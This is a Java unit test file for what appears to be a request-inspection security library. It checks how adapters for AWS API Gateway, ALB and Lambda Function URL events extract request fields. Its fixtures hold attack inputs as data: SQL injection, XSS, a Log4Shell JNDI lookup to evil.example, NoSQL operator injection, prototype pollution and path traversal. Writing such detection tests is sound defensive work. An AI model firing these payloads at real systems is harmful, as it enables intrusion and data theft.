package dev.vigil.shield.aws.events;

import static dev.vigil.shield.aws.events.Extracted.of;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.shield.inspect.HttpRequestView;
import dev.vigil.shield.inspect.Source;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class HttpAdaptersTest {

    @Test
    void rest_proxy_reports_path_multi_value_query_headers_cookies_and_json_body_fields() {
        Map<String, Object> event = Fixtures.event("apigw-rest/post-json.json");

        List<Extracted> values = RecordingSink.extract(ApiGatewayRestAdapter.INSTANCE, event);

        String ua = "sqlmap/1.7.2#stable (https://sqlmap.org)";
        assertThat(values)
                .containsExactlyInAnyOrder(
                        of("path", "/orders/42", Source.PATH),
                        of("pathParameters.id", "42", Source.PATH),
                        of("query.q", "first", Source.QUERY),
                        of("query.q", "second", Source.QUERY),
                        of("query.sort", "name", Source.QUERY),
                        of("query.filter[name]", "filter[name]", Source.QUERY),
                        of("query.filter[name]", "admin", Source.QUERY),
                        of("headers.accept", "application/json", Source.HEADER),
                        of("headers.content-type", "application/json", Source.HEADER),
                        of("headers.cookie", "session=abc123; theme=dark", Source.HEADER),
                        of("cookies.session", "abc123", Source.COOKIE),
                        of("cookies.theme", "dark", Source.COOKIE),
                        of("headers.host", "a1b2c3d4e5.execute-api.us-east-1.amazonaws.com", Source.HEADER),
                        of("headers.user-agent", ua, Source.HEADER),
                        of("headers.x-amzn-trace-id", "Root=1-5e66d96f-7491f09xmpl79d18acf3d050", Source.HEADER),
                        of("headers.x-forwarded-for", "198.51.100.7", Source.HEADER),
                        of("headers.x-forwarded-port", "443", Source.HEADER),
                        of("headers.x-forwarded-proto", "https", Source.HEADER),
                        of("headers.x-custom[evil]", "X-Custom[evil]", Source.HEADER),
                        of("headers.x-custom[evil]", "yes", Source.HEADER),
                        of("body", (String) event.get("body"), Source.BODY),
                        of("body.$.order.note", "' OR '1'='1", Source.BODY),
                        of("body.$.items[0].sku", "A-1", Source.BODY),
                        of("body.$.items[1].sku", "B-2", Source.BODY),
                        of("body.$.items[2].sku", "<script>alert(1)</script>", Source.BODY),
                        of("body.$.filter.$where", "$where", Source.BODY),
                        of("body.$.filter.$where", "sleep(5000)", Source.BODY));
    }

    @Test
    void rest_proxy_reports_the_whole_body_before_its_parts() {
        List<String> locations =
                RecordingSink.extract(ApiGatewayRestAdapter.INSTANCE, Fixtures.event("apigw-rest/post-json.json"))
                        .stream()
                        .map(Extracted::location)
                        .toList();

        assertThat(locations.indexOf("body")).isLessThan(locations.indexOf("body.$.order.note"));
    }

    @Test
    void rest_proxy_decodes_a_base64_form_body_and_parses_its_fields() {
        Map<String, Object> event = Fixtures.event("apigw-rest/form-base64.json");
        String form = "note=hello+world&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&user%5Brole%5D=admin&empty=";

        List<Extracted> values = RecordingSink.extract(ApiGatewayRestAdapter.INSTANCE, event);

        assertThat(values)
                .containsExactlyInAnyOrder(
                        of("path", "/feedback", Source.PATH),
                        of("headers.content-type", "application/x-www-form-urlencoded; charset=UTF-8", Source.HEADER),
                        of("headers.host", "a1b2c3d4e5.execute-api.us-east-1.amazonaws.com", Source.HEADER),
                        of("body", form, Source.BODY),
                        of("body.form.note", "hello world", Source.BODY),
                        of("body.form.comment", "<img src=x onerror=alert(1)>", Source.BODY),
                        of("body.form.user[role]", "user[role]", Source.BODY),
                        of("body.form.user[role]", "admin", Source.BODY));
    }

    @Test
    void rest_proxy_view_uses_multi_value_maps_and_lower_cases_header_names() {
        HttpRequestView view = ApiGatewayRestAdapter.INSTANCE.http(Fixtures.event("apigw-rest/post-json.json"));

        assertThat(view.method()).isEqualTo("POST");
        assertThat(view.path()).isEqualTo("/orders/42");
        assertThat(view.query()).containsEntry("q", List.of("first", "second")).containsKey("filter[name]");
        assertThat(view.headers()).containsEntry("cookie", List.of("session=abc123; theme=dark"));
        assertThat(view.headers().keySet()).allSatisfy(k -> assertThat(k).isLowerCase());
        assertThat(view.contentType()).isEqualTo("application/json");
        assertThat(new String(view.body(), StandardCharsets.UTF_8)).contains("\"$where\"");
    }

    @Test
    void rest_proxy_view_gives_the_decoded_bytes_of_a_base64_body() {
        Map<String, Object> event = Fixtures.event("apigw-rest/form-base64.json");

        HttpRequestView view = ApiGatewayRestAdapter.INSTANCE.http(event);

        assertThat(view.body()).isEqualTo(Base64.getDecoder().decode((String) event.get("body")));
        assertThat(view.query()).isEmpty();
        assertThat(view.header("Content-Type")).startsWith("application/x-www-form-urlencoded");
    }

    @Test
    void http_api_reports_raw_query_values_apart_cookies_and_suspicious_json_keys() {
        Map<String, Object> event = Fixtures.event("apigw-http/post-json.json");

        List<Extracted> values = RecordingSink.extract(ApiGatewayHttpAdapter.INSTANCE, event);

        assertThat(values)
                .contains(
                        of("path", "/users/u-7", Source.PATH),
                        of("pathParameters.userId", "u-7", Source.PATH),
                        of("query.lang", "en", Source.QUERY),
                        of("query.redirect", "https://evil.example/", Source.QUERY),
                        of("query.redirect", "/home", Source.QUERY),
                        of("query.search", "a b", Source.QUERY),
                        of("headers.x-api-version", "${jndi:ldap://evil.example/a}", Source.HEADER),
                        of("headers.user-agent", "curl/8.4.0", Source.HEADER),
                        of("cookies.session", "s3cr3t", Source.COOKIE),
                        of("cookies.tracking", "%27%3B--", Source.COOKIE),
                        of("body", (String) event.get("body"), Source.BODY),
                        of("body.$.user.name", "alice", Source.BODY),
                        of("body.$.user.bio", "{{7*7}}", Source.BODY),
                        of("body.$.query.$gt", "$gt", Source.BODY),
                        of("body.$.__proto__", "__proto__", Source.BODY),
                        of("body.$.tags[1]", "../../etc/passwd", Source.BODY))
                // the comma-joined queryStringParameters copy is not reported on top of the raw values
                .doesNotContain(of("query.redirect", "https://evil.example/,/home", Source.QUERY));
        assertThat(values).extracting(Extracted::location).noneMatch(l -> l.startsWith("requestContext"));
        assertThat(values)
                .extracting(Extracted::value)
                .doesNotContain("123456789012", "JKJaXmPLvHcESHA=", "r3pmxmplak", "POST /users/{userId}");
        assertThat(values).allSatisfy(v -> assertThat(v.recordIndex()).isEqualTo(-1));
    }

    @Test
    void http_api_view_splits_raw_query_and_restores_the_cookie_header() {
        HttpRequestView view = ApiGatewayHttpAdapter.INSTANCE.http(Fixtures.event("apigw-http/post-json.json"));

        assertThat(view.method()).isEqualTo("POST");
        assertThat(view.path()).isEqualTo("/users/u-7");
        assertThat(view.query())
                .containsEntry("redirect", List.of("https://evil.example/", "/home"))
                .containsEntry("search", List.of("a b"));
        assertThat(view.header("cookie")).isEqualTo("session=s3cr3t; tracking=%27%3B--");
        assertThat(view.header("X-Api-Version")).isEqualTo("${jndi:ldap://evil.example/a}");
    }

    @Test
    void http_api_decodes_a_base64_multipart_body_reporting_text_parts_and_file_names_but_not_binary_content() {
        Map<String, Object> event = Fixtures.event("apigw-http/multipart-base64.json");

        List<Extracted> values = RecordingSink.extract(ApiGatewayHttpAdapter.INSTANCE, event);

        List<Extracted> multipart = values.stream()
                .filter(v -> v.location().startsWith("body.multipart"))
                .toList();
        assertThat(multipart)
                .containsExactlyInAnyOrder(
                        of("body.multipart.title", "Quarterly report", Source.BODY),
                        of("body.multipart.note", "line one\r\n1; DROP TABLE users;--", Source.BODY),
                        of("body.multipart.avatar.filename", "../../evil<x>.png", Source.BODY),
                        of("body.multipart.meta.filename", "meta.json", Source.BODY),
                        of("body.multipart.meta", "{\"owner\":\"bob\",\"$ne\":1}", Source.BODY),
                        of("body.multipart.meta.$.owner", "bob", Source.BODY),
                        of("body.multipart.meta.$.$ne", "$ne", Source.BODY));
        Extracted body = values.stream()
                .filter(v -> v.location().equals("body"))
                .findFirst()
                .orElseThrow();
        assertThat(body.value()).startsWith("------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n");
    }

    @Test
    void http_api_view_gives_the_multipart_bytes_exactly() {
        Map<String, Object> event = Fixtures.event("apigw-http/multipart-base64.json");
        byte[] expected = Base64.getDecoder().decode((String) event.get("body"));

        HttpRequestView view = ApiGatewayHttpAdapter.INSTANCE.http(event);

        assertThat(view.body()).isEqualTo(expected);
        assertThat(view.contentType()).isEqualTo("multipart/form-data");
        assertThat(view.query()).isEmpty();
    }

    @Test
    void alb_decodes_multi_value_query_parameters_and_reports_every_header_value() {
        Map<String, Object> event = Fixtures.event("alb/get-multivalue.json");

        List<Extracted> values = RecordingSink.extract(AlbAdapter.INSTANCE, event);

        assertThat(values)
                .containsExactlyInAnyOrder(
                        of("path", "/search", Source.PATH),
                        of("query.q", "<script>", Source.QUERY),
                        of("query.q", "plain text", Source.QUERY),
                        of("query.page", "2", Source.QUERY),
                        of("query.a[b]", "a[b]", Source.QUERY),
                        of("query.a[b]", "c", Source.QUERY),
                        of("headers.accept", "text/html,application/xhtml+xml", Source.HEADER),
                        of("headers.accept-language", "en-US,en;q=0.8", Source.HEADER),
                        of("headers.cookie", "cookie-name=cookie-value; lang=en", Source.HEADER),
                        of("cookies.cookie-name", "cookie-value", Source.COOKIE),
                        of("cookies.lang", "en", Source.COOKIE),
                        of("headers.host", "lambda-846800462-us-east-2.elb.amazonaws.com", Source.HEADER),
                        of("headers.user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", Source.HEADER),
                        of("headers.x-amzn-trace-id", "Root=1-5bdb40ca-556d8b0c50dc66f0511bf520", Source.HEADER),
                        of("headers.x-forwarded-for", "72.21.198.66", Source.HEADER),
                        of("headers.x-forwarded-port", "443", Source.HEADER),
                        of("headers.x-forwarded-proto", "https", Source.HEADER),
                        of("headers.x-multi", "one", Source.HEADER),
                        of("headers.x-multi", "two", Source.HEADER));
    }

    @Test
    void alb_view_has_decoded_multi_valued_query_and_headers() {
        HttpRequestView view = AlbAdapter.INSTANCE.http(Fixtures.event("alb/get-multivalue.json"));

        assertThat(view.method()).isEqualTo("GET");
        assertThat(view.path()).isEqualTo("/search");
        assertThat(view.query())
                .containsEntry("q", List.of("<script>", "plain text"))
                .containsEntry("a[b]", List.of("c"));
        assertThat(view.headers()).containsEntry("x-multi", List.of("one", "two"));
        assertThat(view.body()).isEmpty();
    }

    @Test
    void function_url_reports_text_body_query_cookies_and_no_iam_identity() {
        Map<String, Object> event = Fixtures.event("function-url/post-text.json");

        List<Extracted> values = RecordingSink.extract(FunctionUrlAdapter.INSTANCE, event);

        assertThat(values)
                .containsExactlyInAnyOrder(
                        of("path", "/my/path", Source.PATH),
                        of("query.parameter1", "value1", Source.QUERY),
                        of("query.parameter1", "value2", Source.QUERY),
                        of("query.parameter2", "value", Source.QUERY),
                        of("headers.header1", "value1", Source.HEADER),
                        of("headers.header2", "value1,value2", Source.HEADER),
                        of("headers.content-type", "text/plain", Source.HEADER),
                        of("cookies.cookie1", "value1", Source.COOKIE),
                        of("cookies.cookie2", "value2", Source.COOKIE),
                        of("body", "Hello from client! <svg onload=alert(1)>", Source.BODY));
        HttpRequestView view = FunctionUrlAdapter.INSTANCE.http(event);
        assertThat(view.header("cookie")).isEqualTo("cookie1=value1; cookie2=value2");
        assertThat(view.query()).containsEntry("parameter1", List.of("value1", "value2"));
        assertThat(new String(view.body(), StandardCharsets.UTF_8))
                .isEqualTo("Hello from client! <svg onload=alert(1)>");
    }

    @Test
    void rest_proxy_falls_back_to_single_value_maps_when_multi_value_maps_are_empty() {
        Map<String, Object> event = new java.util.LinkedHashMap<>();
        event.put("httpMethod", "get");
        event.put("path", "/p");
        event.put("requestContext", Map.of("stage", "prod"));
        event.put("multiValueHeaders", Map.of());
        event.put("headers", Map.of("X-Token", "t1"));
        event.put("multiValueQueryStringParameters", Map.of());
        event.put("queryStringParameters", Map.of("q", "v"));

        assertThat(RecordingSink.extract(ApiGatewayRestAdapter.INSTANCE, event))
                .containsExactlyInAnyOrder(
                        of("path", "/p", Source.PATH),
                        of("headers.x-token", "t1", Source.HEADER),
                        of("query.q", "v", Source.QUERY));
        HttpRequestView view = ApiGatewayRestAdapter.INSTANCE.http(event);
        assertThat(view.method()).isEqualTo("GET");
        assertThat(view.headers()).containsEntry("x-token", List.of("t1"));
        assertThat(view.query()).containsEntry("q", List.of("v"));
    }
}
